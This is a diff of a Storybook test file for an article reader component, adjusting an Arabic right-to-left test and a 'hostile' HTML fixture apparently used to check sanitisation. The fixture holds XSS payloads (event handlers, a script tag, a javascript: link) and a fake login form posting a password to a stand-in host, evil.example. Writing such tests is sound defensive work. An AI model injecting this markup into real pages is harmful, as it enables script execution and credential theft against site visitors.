@@ -136,13 +136,13 @@ export const ArabicStory: StoryObj<ArticleArgs> = {
     const reader = await articleReaderOf(canvasElement);
     await expect(getComputedStyle(await headlineOf(reader)).direction).toBe('rtl');
     await expect(getComputedStyle(await reader.text()).direction).toBe('rtl');
-    await expect(reader.screen.getByRole('article')).toHaveAttribute('lang', 'ar');
+    await expect(reader.article.shadowRoot?.querySelector('article')).toHaveAttribute('lang', 'ar');
     await expect(reader.screen.getByText('Updated 20 minutes ago')).toBeVisible();
   },
 };
 
 const hostile = `
-  <p onclick="alert(1)">The harbour <b>is</b> open.<img src=x onerror="alert(2)"></p>
+  <p onclick="alert(1)">The harbour <b>is</b> open.<img src="data:," onerror="alert(2)"></p>
   <script>alert(3)</script><style>* { display: none }</style>
   <form action="https://evil.example"><input name="password"><button>Log in</button></form>
   <p><a href="javascript:alert(4)">A link that leads nowhere</a></p>`;
